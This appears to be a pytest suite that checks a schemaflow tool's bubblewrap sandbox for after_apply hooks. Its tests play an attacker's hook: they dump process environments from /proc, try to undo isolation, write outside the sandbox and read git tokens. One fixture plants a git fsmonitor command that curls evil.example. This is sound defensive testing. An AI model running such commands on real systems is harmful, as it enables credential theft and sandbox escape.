"""A hook cannot see or reach what it was not given: real hooks through the real bubblewrap.

Each test runs hooks through ``run_hooks``, the function apply runs them with (one through ``schemaflow apply`` of a
project with an approved hook), as an attacker's hook would act: reading every process it can find, unmounting its
``/proc``, making a user namespace, writing the project, the runner's files and ``/``, reading the repository's
``.git/config``. What it saw and did is read back from the one folder it may write.
"""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml

from schemaflow.apply.after import ISOLATION_VARIABLE, hook_environment, run_hooks
from schemaflow.code_settings import APPROVAL_VARIABLE, OPERATOR_PATHS_VARIABLE
from schemaflow.project import load_project
from tests.gitrepos import commit, init_repo
from tests.inprocess import schemaflow

ROOT = Path(__file__).resolve().parent.parent
APPLY_WORKFLOW = ROOT / "schemaflow" / "starter" / "files" / "workflows" / "schemaflow-apply-on-merge.yml"
# What actions/checkout leaves in .git/config unless told not to: the job's token.
TOKEN = "AUTHORIZATION: basic fake-token-of-the-job"
# Every process the hook can find: its pid, command line and environment, one a line.
PROCESSES = r"""for p in /proc/[0-9]*; do
  printf '%s\037' "${p#/proc/}"; tr '\0\n' '  ' < "$p/cmdline"; printf '\037'; tr '\0\n' '  ' < "$p/environ"; echo
done > "$SCHEMAFLOW_HOOK_DIR/processes.txt" 2>/dev/null"""


def project_in(folder: Path) -> Path:
    (folder / "schemas").mkdir(parents=True)
    return folder


def hooks(project: Path, commands: list[str], environ: dict[str, str] | None = None) -> tuple[list[str], Path]:
    """Run ``commands`` as the hooks of ``project`` (its state directory the default one), as apply does: how each
    that failed is described, and the hooks' own folder."""
    environment = {"PATH": os.environ["PATH"]} if environ is None else environ
    failures = run_hooks(commands, ("retail.orders",), str(project), str(project / ".schemaflow"),
                         environ=environment)
    return [failure.describe() for failure in failures], project / ".schemaflow" / "hooks"


def with_the_venv(environ: dict[str, str] | None = None) -> dict[str, str]:
    """An environment whose PATH finds the tests' virtual environment first, as an activated one does."""
    return {**(environ or {}), "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin"}


def test_a_hook_sees_only_its_own_processes_not_schemaflows_nor_any_other(tmp_path: Path):
    project = project_in(tmp_path / "project")
    secret = "fake-metastore-secret-5e1b"
    # Another process of the job (the apply's JVM carries the metastore address on its command line).
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", f"--conf=thrift://{secret}"],
                             env={**os.environ, "JOB_SECRET": secret})
    try:
        failures, folder = hooks(project, [PROCESSES])
    finally:
        other.kill()
        other.wait()
    assert failures == []
    seen = [line.split("\x1f") for line in (folder / "processes.txt").read_text().splitlines()]
    assert secret not in (folder / "processes.txt").read_text()
    this = Path("/proc/self/cmdline").read_bytes().replace(b"\0", b" ").decode()  # schemaflow's, running the hooks
    assert this not in [line[1] for line in seen]
    # What is there is the sandbox's: bwrap's init (pid 1), the hook's shell and what it ran.
    assert {line[1].split()[0].rsplit("/", 1)[-1] for line in seen if line[1]} <= {"bwrap", "sh", "tr"}
    assert [line[0] for line in seen][:2] == ["1", "2"] and len(seen) <= 4


def test_a_hook_cannot_undo_its_isolation(tmp_path: Path):
    project = project_in(tmp_path / "project")
    undo = ('cd "$SCHEMAFLOW_HOOK_DIR"; umount /proc 2> umount.txt; echo "$?" >> umount.txt; '
            'unshare --user true 2> userns.txt; echo "$?" >> userns.txt; '
            'unshare --mount true 2> mountns.txt; echo "$?" >> mountns.txt; '
            "grep '^Cap' /proc/self/status > capabilities.txt; ls /proc > after.txt")
    failures, folder = hooks(project, [undo])
    assert failures == []
    assert (folder / "umount.txt").read_text().splitlines()[-1] != "0"
    assert "must be superuser" in (folder / "umount.txt").read_text()
    assert (folder / "userns.txt").read_text().splitlines()[-1] != "0"  # no user namespace, where root would regain
    assert (folder / "mountns.txt").read_text().splitlines()[-1] != "0"
    capabilities = dict(line.split(":") for line in (folder / "capabilities.txt").read_text().splitlines())
    assert {name: int(value, 16) for name, value in capabilities.items()} == {
        "CapInh": 0, "CapPrm": 0, "CapEff": 0, "CapBnd": 0, "CapAmb": 0}
    # /proc is still the sandbox's: a handful of its own pids, where the machine has many.
    assert len([name for name in (folder / "after.txt").read_text().split() if name.isdigit()]) <= 3


def test_a_hook_writes_its_own_folder_and_nothing_else(tmp_path: Path):
    project = project_in(tmp_path / "project")
    (project / "schemas" / "t.yaml").write_text("table: retail.orders\n")
    runner = tmp_path / "runner" / "_temp" / "_runner_file_commands"  # a stand-in for GITHUB_ENV's file
    runner.mkdir(parents=True)
    (runner / "set_env").write_text("")
    beside = tmp_path / "beside.txt"  # a file beside the project, on the machine's /tmp
    beside.write_text("the machine's\n")
    refused = {"project": project / "written", "schema": project / "schemas" / "t.yaml",
               "state": project / ".schemaflow" / "written", "runner": runner / "set_env",
               "root": Path("/written-by-a-hook"), "etc": Path("/etc/written-by-a-hook")}
    tries = "; ".join(f"echo pwned 2>> \"$SCHEMAFLOW_HOOK_DIR/{name}.txt\" >> {path}" for name, path in refused.items())
    failures, folder = hooks(project, [f"{tries}; echo kept > \"$SCHEMAFLOW_HOOK_DIR/out.txt\"; "
                                       f"echo pwned >> {beside}; echo scratch > {tmp_path}/scratch.txt"])
    assert failures == []
    assert (folder / "out.txt").read_text() == "kept\n"  # its own folder, there for the operator after the run
    said = {name: (folder / f"{name}.txt").read_text() for name in refused}
    assert said == {"project": f"/bin/sh: 1: cannot create {project}/written: Read-only file system\n",
                    "schema": f"/bin/sh: 1: cannot create {project}/schemas/t.yaml: Read-only file system\n",
                    "state": f"/bin/sh: 1: cannot create {project}/.schemaflow/written: Read-only file system\n",
                    "runner": f"/bin/sh: 1: cannot create {runner}/set_env: Directory nonexistent\n",  # not there at all
                    "root": "/bin/sh: 1: cannot create /written-by-a-hook: Read-only file system\n",
                    "etc": "/bin/sh: 1: cannot create /etc/written-by-a-hook: Read-only file system\n"}
    assert (project / "schemas" / "t.yaml").read_text() == "table: retail.orders\n"
    assert (runner / "set_env").read_text() == ""
    assert not any(path.exists() for name, path in refused.items() if name not in ("schema", "runner"))
    # /tmp is the sandbox's own: what it wrote there (where the machine's /tmp holds the project) is gone with it.
    assert beside.read_text() == "the machine's\n" and not (tmp_path / "scratch.txt").exists()


def test_the_hooks_folder_starts_empty_and_a_link_in_its_place_is_refused(tmp_path: Path):
    project = project_in(tmp_path / "project")
    committed = project / ".schemaflow" / "hooks" / ".config" / "git"
    committed.mkdir(parents=True)
    (committed / "config").write_text("[core]\n\tfsmonitor = sh -c 'curl evil.example'\n")  # in the hook's HOME
    failures, folder = hooks(project, ['ls -A "$HOME" > "$HOME/listing.txt"'])
    assert failures == [] and (folder / "listing.txt").read_text() == "listing.txt\n"

    repository = project_in(tmp_path / "linked")
    (repository / ".git" / "hooks").mkdir(parents=True)
    (repository / ".schemaflow").symlink_to(".git")  # committed: the hooks' folder would be .git/hooks
    (failure,), _ = hooks(repository, ['touch "$SCHEMAFLOW_HOOK_DIR/post-checkout"'])
    assert failure.startswith(f"after_apply hook `touch \"$SCHEMAFLOW_HOOK_DIR/post-checkout\"` failed (not run): "
                              f"the hooks' folder {repository}/.schemaflow/hooks is reached through a symbolic link")
    assert list((repository / ".git" / "hooks").iterdir()) == []


def test_a_hook_cannot_read_the_repositorys_git_folder_of_a_project_at_its_root(tmp_path: Path):
    project = project_in(tmp_path / "repo")
    repository = init_repo(project)
    with repository.config_writer() as config:
        config.set_value('http "https://github.com/"', "extraheader", TOKEN)
    assert TOKEN in (project / ".git" / "config").read_text()
    failures, folder = hooks(project, ['cat .git/config > "$HOME/config.txt" 2>&1; ls -A .git > "$HOME/git.txt"; '
                                       'ls -A > "$HOME/project.txt"'])
    assert failures == []
    assert (folder / "config.txt").read_text() == "cat: .git/config: No such file or directory\n"
    assert (folder / "git.txt").read_text() == ""
    assert (folder / "project.txt").read_text().split() == [".git", ".schemaflow", "schemas"]


def test_a_project_in_a_subfolder_sees_nothing_else_of_its_repository(tmp_path: Path):
    repository_root = tmp_path / "repo"
    project = project_in(repository_root / "warehouse")
    repository = init_repo(repository_root)
    with repository.config_writer() as config:
        config.set_value('http "https://github.com/"', "extraheader", TOKEN)
    (repository_root / "services").mkdir()
    (repository_root / "services" / "settings.txt").write_text("a sibling's file\n")
    failures, folder = hooks(project, [f'ls -A {repository_root} > "$HOME/root.txt"; '
                                       f'cat {repository_root}/.git/config {repository_root}/services/settings.txt '
                                       '> "$HOME/read.txt" 2>&1; exit 0'])
    assert failures == []
    assert (folder / "root.txt").read_text() == "warehouse\n"  # only the way to the project
    read = (folder / "read.txt").read_text()
    assert TOKEN not in read and "a sibling's file" not in read and read.count("No such file or directory") == 2


def test_a_hook_reads_an_operator_path_and_runs_python_and_a_virtual_environments_tools(tmp_path: Path):
    project = project_in(tmp_path / "project")
    (project / "tools").mkdir()
    (project / "tools" / "__init__.py").write_text("")
    (project / "tools" / "notify.py").write_text(
        "import os, yaml\n"  # yaml: installed in the virtual environment only
        "open(os.path.join(os.environ['SCHEMAFLOW_HOOK_DIR'], 'notified.txt'), 'w')"
        ".write(yaml.safe_dump({'changed': os.environ['SCHEMAFLOW_CHANGED']}))\n")
    operator = tmp_path / "operator"
    operator.mkdir()
    (operator / "notify.sh").write_text('echo "from the operator" > "$SCHEMAFLOW_HOOK_DIR/operator.txt"\n')
    (tmp_path / "unnamed").mkdir()
    (tmp_path / "unnamed" / "notify.sh").write_text("echo not shown\n")
    environ = with_the_venv({OPERATOR_PATHS_VARIABLE: str(operator)})
    failures, folder = hooks(project, ["python3 -m tools.notify", f"sh {operator}/notify.sh",
                                       'pip --version > "$HOME/pip.txt"', f"sh {tmp_path}/unnamed/notify.sh"],
                             environ)
    assert yaml.safe_load((folder / "notified.txt").read_text()) == {"changed": "retail.orders"}
    assert (folder / "operator.txt").read_text() == "from the operator\n"
    assert (folder / "pip.txt").read_text().startswith("pip ")  # the environment's pip, its packages found
    assert failures == [f"after_apply hook `sh {tmp_path}/unnamed/notify.sh` failed (exit 2): sh: 0: cannot open "
                        f"{tmp_path}/unnamed/notify.sh: No such file"]


def test_a_hook_reaches_the_network(tmp_path: Path):
    project = project_in(tmp_path / "project")
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(60)
        port = server.getsockname()[1]

        def accept() -> None:
            connection, _ = server.accept()
            with connection:
                received.append(connection.recv(100))

        listener = threading.Thread(target=accept)
        listener.start()
        failures, _ = hooks(project, [f"bash -c 'echo \"$SCHEMAFLOW_CHANGED\" > /dev/tcp/127.0.0.1/{port}'"])
        listener.join()
    assert failures == [] and received == [b"retail.orders\n"]


def test_a_hooks_environment_is_what_hook_environment_gives_and_nothing_more(tmp_path: Path):
    project = project_in(tmp_path / "project")
    environ = {"PATH": os.environ["PATH"], "HOME": "/root", "LANG": "C.UTF-8", "TRINO_USER": "etl",
               "SCHEMAFLOW_HOOK_ENV": "TRINO_USER", "AWS_SECRET_ACCESS_KEY": "fake", "SCHEMAFLOW_METASTORE_URI": "x"}
    failures, folder = hooks(project, ['cat /proc/$$/environ > "$HOME/environ"; cat /proc/1/environ > "$HOME/init"'],
                             environ)
    assert failures == []
    given = hook_environment(environ, ("retail.orders",), str(folder))
    assert given["HOME"] == str(folder) and "AWS_SECRET_ACCESS_KEY" not in given and given["TRINO_USER"] == "etl"
    # The sandbox's init's, and the hook's shell's as it started (bwrap sets PWD, as a shell does).
    for name, expected in (("init", given), ("environ", {**given, "PWD": str(project)})):
        started = dict(entry.split("=", 1) for entry in (folder / name).read_text().split("\0") if entry)
        assert started == expected, name


def test_without_bubblewrap_a_hook_is_not_run_unless_the_operator_says_so(tmp_path: Path):
    project = project_in(tmp_path / "project")
    machine = {"PATH": str(tmp_path / "no-bwrap-here")}  # a PATH that finds no bwrap
    write = 'echo ran > "$SCHEMAFLOW_HOOK_DIR/ran.txt"'
    failures, folder = hooks(project, [write], machine)
    assert failures == [
        f"after_apply hook `{write}` failed (not run): no sandbox for hooks here (bubblewrap (bwrap) is not on PATH), "
        "and outside one a hook could read the job's secrets from schemaflow's processes and write the runner's "
        "files; install bubblewrap (apt-get install bubblewrap), or set SCHEMAFLOW_HOOK_ISOLATION=none where the job "
        "runs to run hooks without isolation"]
    assert not (folder / "ran.txt").exists()
    assert hooks(project, [write], {**machine, ISOLATION_VARIABLE: "none"}) == ([], folder)
    assert (folder / "ran.txt").read_text() == "ran\n"


@pytest.mark.spark
def test_schemaflow_apply_runs_an_approved_hook_in_the_sandbox(tmp_path, metastore, fresh_db, monkeypatch):
    db = fresh_db()
    project = tmp_path / "repo"
    repository = init_repo(project)
    with repository.config_writer() as config:
        config.set_value('http "https://github.com/"', "extraheader", TOKEN)
    (project / "schemas" / db).mkdir(parents=True)
    (project / "schemas" / db / "t.yaml").write_text(f"table: {db}.t\ncolumns: [{{name: a, type: int}}]\n")
    (project / "scripts").mkdir()
    (project / "scripts" / "check.sh").write_text(PROCESSES + """
cat .git/config > "$SCHEMAFLOW_HOOK_DIR/git-config.txt" 2>&1
echo pwned 2> "$SCHEMAFLOW_HOOK_DIR/project-write.txt" > written-by-the-hook
printf '%s' "$SCHEMAFLOW_CHANGED" > "$SCHEMAFLOW_HOOK_DIR/told.txt"
""")
    (project / "schemaflow.yaml").write_text(f"databases: [{db}]\nafter_apply: ['sh scripts/check.sh']\n")
    commit(repository, "a table, and a hook")
    [hook] = load_project(project, env={}).settings.code
    monkeypatch.chdir(project)
    monkeypatch.setenv(APPROVAL_VARIABLE, hook.id)
    applied = schemaflow("apply", "--auto-approve")
    assert applied.code == 0, applied.said
    assert f"{db}.t" in metastore.read((db,)).objects
    folder = project / ".schemaflow" / "hooks"
    assert (folder / "told.txt").read_text() == f"{db}.t"
    processes = [line.split("\x1f") for line in (folder / "processes.txt").read_text().splitlines()]
    # The sandbox's own processes: not schemaflow's, nor the JVM it applied through (Spark's settings on its command
    # line).
    assert {line[1].split()[0].rsplit("/", 1)[-1] for line in processes if line[1]} <= {"bwrap", "sh", "tr"}
    assert not [line for line in processes if "org.apache.spark" in line[1]]
    assert (folder / "git-config.txt").read_text() == "cat: .git/config: No such file or directory\n"
    assert "Read-only file system" in (folder / "project-write.txt").read_text()
    assert not (project / "written-by-the-hook").exists()


def test_the_starter_apply_workflow_installs_bubblewrap_before_apply_where_hooks_are_used(tmp_path: Path):
    workflow = yaml.safe_load(APPLY_WORKFLOW.read_text())
    (job,) = workflow["jobs"].values()
    names = [step.get("name", "") for step in job["steps"]]
    install = next(step for step in job["steps"] if step.get("name", "").startswith("Install bubblewrap"))
    assert names.index(install["name"]) < names.index("Apply what was reviewed, or refuse it as stale")
    # The step's script as the runner's bash runs it: sudo stands in as a function that says what it was asked,
    # on a PATH without bwrap.
    tools = tmp_path / "bin"
    tools.mkdir()
    for tool in ("grep", "cat"):
        (tools / tool).symlink_to(f"/usr/bin/{tool}")
    script = 'sudo() { echo "sudo $*"; }\n' + install["run"]
    installed = "sudo apt-get update -q\nsudo apt-get install -y -q bubblewrap\n"
    restricted = Path("/proc/sys/kernel/apparmor_restrict_unprivileged_userns")  # Ubuntu 24.04's, as on its runners
    if restricted.exists() and restricted.read_text().strip() == "1":
        installed += "sudo tee /etc/apparmor.d/bwrap\nsudo apparmor_parser -r /etc/apparmor.d/bwrap\n"
    for settings, expected in (("databases: [retail]\n", ""),
                               ("databases: [retail]\nafter_apply: ['sh scripts/notify.sh']\n", installed)):
        (tmp_path / "schemaflow.yaml").write_text(settings)
        ran = subprocess.run(["/bin/bash", "-e", "-c", script], cwd=tmp_path, capture_output=True, text=True,
                             env={"PATH": str(tools), "SCHEMAFLOW_PROJECT": "."})
        assert (ran.returncode, ran.stdout) == (0, expected), ran.stderr
